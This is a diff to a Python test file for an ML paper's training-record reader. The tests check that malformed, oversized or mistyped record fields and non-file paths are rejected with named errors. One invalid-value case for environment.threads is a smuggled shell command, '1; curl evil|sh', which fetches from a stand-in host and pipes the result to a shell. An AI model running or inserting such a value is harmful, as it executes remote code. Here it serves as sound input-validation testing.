@@ -1,13 +1,18 @@
 """Records: written whole, found by their spec, checked when read; and what the two selection rules pick."""
 
 import json
+import os
+import re
 from dataclasses import asdict
 
 import pytest
+import torch
+from helpers import filled
 
 from stn_paper.errors import InputError
 from stn_paper.paths import results_dir
-from stn_paper.training import records
+from stn_paper.training import hardware, records
+from stn_paper.training.record_fields import RECORD
 from stn_paper.training.spec import BEST_OF_FIVE, BEST_VALIDATION, RunSpec
 
 SPEC = RunSpec("caltech101", "resnet18", "lstn", "reduced")
@@ -21,8 +26,7 @@ def epochs(*accuracies):
 
 def record(made=None):
     made = epochs((50, 40), (60, 41)) if made is None else made
-    filled = {key: {} for key in ("data", "measured", "environment")}
-    return filled | {
+    return filled(SPEC) | {
         "parameters": 5,
         "epochs": made,
         "stopped": "early",
@@ -69,22 +73,25 @@ def damage(change):
     return str(error.value)
 
 
-@pytest.mark.parametrize("field", records.FIELDS)
+FIELDS = [field for field in RECORD if field[-1] != "?"]
+
+
+@pytest.mark.parametrize("field", FIELDS)
 def test_a_missing_field_is_named(field):
     def drop(text):
         return json.dumps({k: v for k, v in json.loads(text).items() if k != field})
 
-    assert f"({field})" in damage(drop)
+    assert f"({field}" in damage(drop)
 
 
-@pytest.mark.parametrize("field", records.FIELDS)
+@pytest.mark.parametrize("field", FIELDS)
 def test_a_field_of_the_wrong_type_is_noticed(field):
-    assert "is damaged" in damage(lambda text: json.dumps(json.loads(text) | {field: None}))
+    assert f"({field})" in damage(lambda text: json.dumps(json.loads(text) | {field: None}))
 
 
 @pytest.mark.parametrize("field", records.EPOCH_FIELDS)
 def test_a_missing_epoch_field_is_named(field):
-    assert f"({field})" in damage(lambda text: text.replace(f'"{field}"', '"other"'))
+    assert f"{field})" in damage(lambda text: text.replace(f'"{field}"', '"other"'))
 
 
 @pytest.mark.parametrize(
@@ -121,14 +128,21 @@ def changed(*place, value):
     ("named", "place", "values"),
     [
         ("parameters", ("parameters",), [0, -5]),
-        ("loss", ("epochs", 0, "test_loss"), ["1", None]),
-        ("accuracy", ("epochs", 0, "test_accuracy"), [-1, 100.1, "50"]),
-        ("accuracy", ("epochs", 0, "train_accuracy"), [101]),
+        ("epochs.0.test_loss", ("epochs", 0, "test_loss"), ["1", None, 1.7e308, -1]),
+        ("epochs.0.test_accuracy", ("epochs", 0, "test_accuracy"), [-1, 100.1, "50"]),
+        ("epochs.1.train_accuracy", ("epochs", 1, "train_accuracy"), [101]),
         ("stopped", ("stopped",), ["budget", "killed", ""]),  # the protocol's 20 epochs are not used up
-        ("measured", ("measured", "seconds"), ["9", None, -1]),
-        ("environment", ("environment", "commit"), [3, None]),
-        ("environment", ("environment", "device"), [["a CPU"]]),
-        ("protocol", ("spec", "protocol"), ["reduced", [], {}, None]),
+        ("measured.seconds", ("measured", "seconds"), ["9", None, -1, 10**400, True]),
+        ("measured.seconds", ("measured",), [{}]),
+        ("environment.commit", ("environment", "commit"), [3, None]),
+        ("environment.device", ("environment", "device"), [["a CPU"], "\ud800"]),
+        ("environment.device", ("environment",), [{"commit": ""}]),
+        ("environment.threads", ("environment", "threads"), ["1; curl evil|sh", 0]),
+        ("data.train", ("data", "train"), ["24", 0, 1.5]),
+        ("epochs.0.theta.mean", ("epochs", 0, "theta"), [{"mean": [1.0], "std": [0.0] * 6}]),
+        ("probes.images", ("probes",), [{}]),
+        ("spec.protocol", ("spec", "protocol"), ["reduced", [], None]),
+        ("spec.protocol.name", ("spec", "protocol"), [{}]),
         ("JSON", ("epochs", 0, "test_loss"), [float("nan"), float("inf")]),
         ("JSON", ("data", "classes"), [float("nan")]),
     ],
@@ -139,7 +153,9 @@ def test_what_no_run_gives_is_named(named, place, values):
 
 
 def test_a_number_too_large_to_be_one_is_named():
-    assert "(loss)" in damage(lambda text: text.replace('"test_loss": 1.0', '"test_loss": 1e999'))
+    assert "(epochs.0.test_loss)" in damage(
+        lambda text: text.replace('"test_loss": 1.0', '"test_loss": 1e999')
+    )
 
 
 def test_a_used_up_budget_is_no_fault():
@@ -189,22 +205,23 @@ def once(**changes):
     """A record of a protocol whose test images are looked at once."""
     spec = RunSpec("caltech101", "resnet18", "original", "small")
     row = {"train_loss": 1.0, "validation_loss": 1.0, "validation_accuracy": 50.0}
+    last = spec.protocol.max_epochs
     test = {"loss": 1.0, "accuracy": 40.0, "class_accuracy": 30.0, "correct": ""}
-    made = record(epochs(*[(50, 40)] * 10)) | {"epochs": [row] * 10, "stopped": "budget", "test": test}
-    made["selected"] = {"last-epoch": {"epoch": 10, "validation": 50.0, "test": 40.0}}
+    made = record(epochs((50, 40))) | {"epochs": [row] * last, "stopped": "budget", "test": test}
+    made["selected"] = {"last-epoch": {"epoch": last, "validation": 50.0, "test": 40.0}}
     return records.write(spec, made | changes)
 
 
 def test_a_record_of_one_look_at_the_test_images_is_whole_without_their_curve():
     read = records.read(once())
-    assert records.chosen(read) == {"epoch": 10, "validation": 50.0, "test": 40.0}
+    assert records.chosen(read) | {"epoch": 0} == {"epoch": 0, "validation": 50.0, "test": 40.0}
 
 
-@pytest.mark.parametrize("field", records.TEST_FIELDS)
+@pytest.mark.parametrize("field", ["loss", "accuracy", "class_accuracy", "correct"])
 def test_each_field_of_the_one_test_is_needed(field):
     whole = json.loads(once().read_text())["test"]
     path = once(test={name: value for name, value in whole.items() if name != field})
-    with pytest.raises(InputError, match=rf"\(test {field}\)"):
+    with pytest.raises(InputError, match=rf"\(test\.{field}\)"):
         records.read(path)
 
 
@@ -212,8 +229,27 @@ def test_a_changed_one_test_is_noticed():
     test = json.loads(once().read_text())["test"]
     with pytest.raises(InputError, match=r"\(selected\)"):
         records.read(once(test=test | {"accuracy": 41.0}))
-    with pytest.raises(InputError, match=r"\(accuracy\)"):
+    with pytest.raises(InputError, match=r"\(test\.class_accuracy\)"):
         records.read(once(test=test | {"class_accuracy": 101.0}))
+
+
+@pytest.mark.parametrize("text", ["[" * 10**5, '{"a":' * 10**5, "[" * 10**5 + "]" * 10**5])
+def test_json_that_is_nested_without_end_is_named(text):
+    assert "(JSON)" in damage(lambda _: text)
+
+
+@pytest.mark.parametrize("kind", ["folder", "pipe", "broken link", "link to itself", "too large"])
+def test_what_is_no_file_of_a_record_is_named(kind):
+    path = records.record_path(SPEC)
+    path.parent.mkdir(parents=True)
+    if kind == "too large":
+        path.touch()
+        os.truncate(path, records.LARGEST_FILE + 1)
+    else:
+        make = {"folder": path.mkdir, "pipe": lambda: os.mkfifo(path)}
+        make.get(kind, lambda: path.symlink_to(path.name if kind == "link to itself" else "nowhere"))()
+    with pytest.raises(InputError, match=re.escape(str(path))):
+        records.everything()
 
 
 def test_bytes_that_are_no_text_are_named():
@@ -243,3 +279,17 @@ def test_the_fifth_best_epoch_still_counts():
 def test_selection_of_one_epoch():
     only = {"epoch": 1, "validation": 50, "test": 40}
     assert records.select(epochs((50, 40))) == {BEST_VALIDATION: only, BEST_OF_FIVE: only}
+
+
+@pytest.mark.parametrize(
+    ("typed", "command"),
+    [
+        (["/somewhere/stn_paper/__main__.py", "run", "digits"], "python -m stn_paper run digits"),
+        (["/usr/bin/stn-paper", "run", "a b"], "stn-paper run 'a b'"),
+        (["/x/ipykernel_launcher.py", "-f", "/tmp/kernel.json"], "a notebook"),
+    ],
+)
+def test_a_record_has_the_command_that_was_typed(monkeypatch, typed, command):
+    monkeypatch.setattr("sys.argv", typed)
+    environment = hardware.environment(torch.device("cpu"))
+    assert environment["command"] == command
